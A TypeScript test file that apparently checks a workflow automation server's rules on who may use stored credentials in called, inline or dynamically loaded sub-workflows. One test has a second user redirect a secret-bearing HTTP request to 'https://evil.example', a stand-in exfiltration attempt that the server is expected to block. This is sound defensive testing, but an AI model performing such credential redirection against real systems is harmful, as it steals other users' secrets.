import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
import { describeStores, startTestServer, type TestClient, type TestServer } from "../../testing/index.ts";
import { waitFor } from "../testing/test-runtime.ts";

const SECRET = "s3cret-of-ada";
const LIMITED = /may not use the credential "Shop"/;

type Named = { name: string } & Record<string, unknown>;

const node = (name: string, type: string, parameters: object = {}, extra: object = {}) => ({
  id: name,
  name,
  type: `n8n-nodes-base.${type}`,
  typeVersion: 1,
  position: [0, 0],
  parameters,
  ...extra,
});
const chain = (...nodes: readonly Named[]) => ({
  nodes,
  connections: Object.fromEntries(
    nodes
      .slice(1)
      .map(({ name }, index) => [nodes[index]!.name, { main: [[{ node: name, type: "main", index: 0 }]] }]),
  ),
  settings: { saveManualExecutions: true },
});
const called = (...nodes: readonly Named[]) => chain(node("Called", "executeWorkflowTrigger"), ...nodes);
const start = node("Start", "manualTrigger");
/** A node that runs a workflow in its parameters: an object as text, or an expression. */
const inline = (workflowJson: unknown, name = "Call") =>
  node(name, "executeWorkflow", {
    source: "parameter",
    workflowJson: typeof workflowJson === "string" ? workflowJson : JSON.stringify(workflowJson),
  });
const byExpression = (workflow: object) => inline(`={{ ${JSON.stringify(JSON.stringify(workflow))} }}`);

describeStores("credentials of workflows that are called and not saved", (dialect) => {
  const folder = mkdtempSync(join(tmpdir(), "heddle-caller-credentials-"));
  let server: TestServer;
  let ada: TestClient;
  let ben: TestClient;
  let benId: string;
  let service: Server;
  let address: string;
  let shop: string;
  let file: object;
  /** Values of the header that the service received. */
  let got: unknown[] = [];

  beforeAll(async () => {
    service = createServer((request, response) => {
      if (request.url === "/workflow") return void response.end(JSON.stringify(file));
      got.push(request.headers["x-key"]);
      response.writeHead(200, { "content-type": "application/json" }).end("{}");
    });
    await new Promise<void>((resolve) => service.listen(0, "127.0.0.1", resolve));
    address = `http://127.0.0.1:${(service.address() as AddressInfo).port}`;
    const env = { HEDDLE_WORKFLOW_FILES: folder, HEDDLE_HTTP_ALLOW: "127.0.0.1" };
    server = await startTestServer({ dialect, env });
    await server.signIn();
    [ada, ben] = [await server.signInMember(), await server.signInMember()];
    benId = (await ben.get("/me")).data.id;
  });
  afterAll(async () => {
    await server.stop();
    service.close();
    rmSync(folder, { recursive: true, force: true });
  });
  beforeEach(async () => {
    got = [];
    const data = { name: "x-key", value: SECRET };
    shop = (await ada.post("/credentials", { name: "Shop", type: "httpHeaderAuth", data })).data.id;
  });

  const request = (reference: object = { id: shop, name: "Shop" }, name = "Send") =>
    node(
      name,
      "httpRequest",
      { url: address, authentication: "genericCredentialType", genericAuthType: "httpHeaderAuth" },
      { typeVersion: 4, credentials: { httpHeaderAuth: reference } },
    );
  /** Never runs; its workflow names the credential. */
  const naming = () => ({ ...request(undefined, "Names"), disabled: true });
  let count = 0;
  const create = async (api: TestClient, body: object) =>
    (await api.post("/workflows", { name: `Lent ${count++}`, ...body })).data;
  const share = (id: string) => ada.put(`/workflows/${id}/share`, { shareWithIds: [benId] });
  /** Runs a workflow by hand; returns the message of its error. */
  async function run(api: TestClient, workflowData: object): Promise<string | undefined> {
    const { executionId } = (await api.post("/workflows/run", { workflowData })).data;
    const ended = await waitFor(async () => {
      const { data } = await api.get(`/executions/${executionId}/summary`);
      return data?.stoppedAt ? data : undefined;
    });
    return ended.data.error?.message;
  }

  it("belong to the user who writes it, and to no other editor of the workflow", {
    tags: ["CRD-37"],
  }, async () => {
    const own = await create(ada, chain(start, inline(called(request()))));
    await share(own.id);
    expect(await run(ada, own)).toBeUndefined();
    expect(got).toEqual([SECRET]);
    // The same node sent by the other user stays as stored; a new one is refused.
    const evil = inline(
      called({ ...request(), parameters: { ...request().parameters, url: "https://evil.example" } }),
    );
    const saved = await ben.patch(`/workflows/${own.id}`, chain(start, evil));
    expect(saved.data.nodes[1].parameters).toEqual(own.nodes[1].parameters);
    const more = chain(start, inline(called(request())), { ...evil, id: "new", name: "New" });
    expect((await ben.patch(`/workflows/${own.id}`, more)).status).toBe(400);
    expect((await ben.post("/workflows/run", { workflowData: { ...own, ...more } })).status).toBe(400);
    expect((await ben.post("/workflows", chain(start, evil))).status).toBe(400);
    const deep = chain(start, inline(called(inline(called(inline(called(request())))))));
    expect((await ben.patch(`/workflows/${own.id}`, deep)).data.nodes[1].parameters).toEqual(
      own.nodes[1].parameters,
    );
    const asObject = node("Call 2", "executeWorkflow", {
      source: "parameter",
      workflowJson: called(request()),
    });
    expect((await ben.patch(`/workflows/${own.id}`, chain(start, asObject))).status).toBe(400);
  });

  it("are not available to code that is generated, read or downloaded during the run", async () => {
    file = called(request());
    writeFileSync(join(folder, "part.json"), JSON.stringify(file));
    const unwritten = [
      byExpression(file),
      node("Call", "executeWorkflow", { source: "localFile", workflowPath: "part.json" }),
      node("Call", "executeWorkflow", { source: "url", workflowUrl: `${address}/workflow` }),
      byExpression(called(request({ id: null, name: "Shop" }))),
      byExpression(called(inline(file))),
      inline(called(byExpression(file))),
    ];
    for (const one of unwritten) {
      const plain = await create(ben, chain(start, { ...one }));
      const shared = await create(ada, chain(start, one));
      await share(shared.id);
      // By whichever hand, and although the owner could.
      for (const client of [ada, ben]) expect(await run(client, shared)).toMatch(LIMITED);
      expect(await run(ben, plain)).toMatch(LIMITED);
    }
    expect(got).toEqual([]);
  });

  it("include credentials named in nodes, if all editors of the workflow have access to them", async () => {
    file = called(request());
    const naive = await create(ada, chain(start, byExpression(file), naming()));
    expect(await run(ada, naive)).toBeUndefined();
    expect(got).toEqual([SECRET]);
    await share(naive.id);
    for (const client of [ada, ben]) expect(await run(client, naive)).toMatch(LIMITED);
    await ada.put(`/credentials/${shop}/share`, { shareWithIds: [benId] });
    for (const client of [ada, ben]) expect(await run(client, naive)).toBeUndefined();
    expect(got).toEqual([SECRET, SECRET, SECRET]);
  });

  it("leave nodes with dynamic code unchanged for users without access to them", async () => {
    const own = await create(ada, chain(start, naming()));
    await share(own.id);
    const evil = chain(start, byExpression(called(request())), naming());
    const answer = await ben.patch(`/workflows/${own.id}`, evil);
    expect([answer.status, answer.body.message]).toEqual([
      400,
      expect.stringContaining('The node "Call" runs a workflow that is known only while it runs'),
    ]);
    const owner = await server.signIn();
    expect((await owner.patch(`/workflows/${own.id}`, evil)).status).toBe(400);
    expect((await ada.patch(`/workflows/${own.id}`, evil)).status).toBe(200);
  });
});

describeStores("credentials of workflows that are called by name or id", (dialect) => {
  let server: TestServer;
  beforeAll(async () => void (server = await startTestServer({ dialect })));
  afterAll(() => server.stop());

  it("never belong to the user who runs the caller manually", async () => {
    await server.signIn();
    const [ada, ben] = [await server.signInMember(), await server.signInMember()];
    const data = { name: "x-key", value: SECRET };
    const of = async (client: TestClient, name: string): Promise<string> =>
      (await client.post("/credentials", { name, type: "httpHeaderAuth", data })).data.id;
    const id = await of(ben, "Shop");
    const names = (reference: object) =>
      node(
        "Send",
        "httpRequest",
        {
          url: "http://x.example",
          authentication: "genericCredentialType",
          genericAuthType: "httpHeaderAuth",
        },
        { typeVersion: 4, credentials: { httpHeaderAuth: reference } },
      );
    const create = async (client: TestClient, body: object) => (await client.post("/workflows", body)).data;
    const run = async (client: TestClient, workflowData: object) => {
      const { executionId } = (await client.post("/workflows/run", { workflowData })).data;
      const ended = await waitFor(async () => {
        const { data: summary } = await client.get(`/executions/${executionId}/summary`);
        return summary?.stoppedAt ? summary : undefined;
      });
      return ended.data.error?.message;
    };
    // Ada could use it once, and still names it.
    const benShares = (shareWithIds: string[]) => ben.put(`/credentials/${id}/share`, { shareWithIds });
    const adaId = (await ada.get("/me")).data.id;
    await benShares([adaId]);
    const traps = [
      await create(ada, { ...called(names({ id, name: "Shop" })), name: "Trap 1" }),
      await create(ada, { ...called(names({ id: null, name: "Shop" })), name: "Trap 2" }),
    ];
    await benShares([]);
    for (const trap of traps) {
      await ada.patch(`/workflows/${trap.id}`, { settings: { callerPolicy: "any" } });
      const caller = await create(
        ben,
        chain(start, node("Call", "executeWorkflow", { workflowId: trap.id })),
      );
      expect(await run(ben, caller)).toContain("does not exist or may not be used here");
    }
    // By name neither if they run the workflow itself, nor if one of this name is created later.
    const [, byName] = traps;
    await ada.put(`/workflows/${byName.id}/share`, { shareWithIds: [(await ben.get("/me")).data.id] });
    const direct = { ...byName, ...chain(start, byName.nodes[1]) };
    expect(await run(ben, direct)).toContain("does not exist or may not be used here");
    const later = chain(start, names({ id: null, name: "Made later" }));
    const added = { ...later, nodes: later.nodes.map((one) => ({ ...one, id: `${one.name} later` })) };
    expect((await ben.patch(`/workflows/${byName.id}`, added)).status).toBe(400);
  });
});
